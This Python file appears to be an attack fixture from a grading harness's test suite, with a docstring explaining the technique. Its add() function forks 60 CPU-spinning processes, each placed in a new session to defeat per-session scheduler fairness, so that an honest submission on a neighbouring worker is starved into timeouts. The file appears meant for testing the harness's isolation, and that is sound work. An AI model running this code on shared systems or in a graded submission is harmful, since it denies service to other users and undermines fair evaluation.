"""Attack m02a: a submission's processes take the CPU from the other worker's runner.

The public add forks 60 processes (`processes` is 64) that start spinning together 0.5 s later
(spinning as they were forked, they starved the forks into the call's timeout) until the
session ends, and each public call waits 2 s (the call timeout is 3 s) before answering
honestly: about 5.5 s of 60 runnable processes of one submission. Each spinner starts a session
of its own first: with the kernel's autogroup on (Debian's default), the scheduler shares the CPU
by session, so 60 sessions take 60 shares. Graded beside m02b (tests/attacks/m02_b...), an
honest submission whose calls each need 0.25 s of CPU, on the other worker of a `--jobs 2`
batch: with the scheduler fair per process, m02b got 1/30 of a core and its calls timed out.
Honest otherwise: 4/4."""

import os
import time

import numpy as np

SPINNERS = 60
STARTED = []


def _spin(start):
    os.setsid()  # a session of its own: where the kernel groups by session (autogroup), a group of its own
    time.sleep(max(0.0, start - time.monotonic()))
    x = 0
    while True:
        x += 1


def _start():
    if not STARTED:
        start = time.monotonic() + 0.5
        for _ in range(SPINNERS):
            pid = os.fork()
            if pid == 0:
                try:
                    _spin(start)
                finally:
                    os._exit(0)
            STARTED.append(pid)
        print(f"spinners: {len(STARTED)}")


def add(a, b):
    _start()
    time.sleep(2.0)
    return a + b


def scale(x, k):
    if len(x) == 3:  # the public case
        time.sleep(2.0)
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    time.sleep(2.0)
    return tuple(shape)
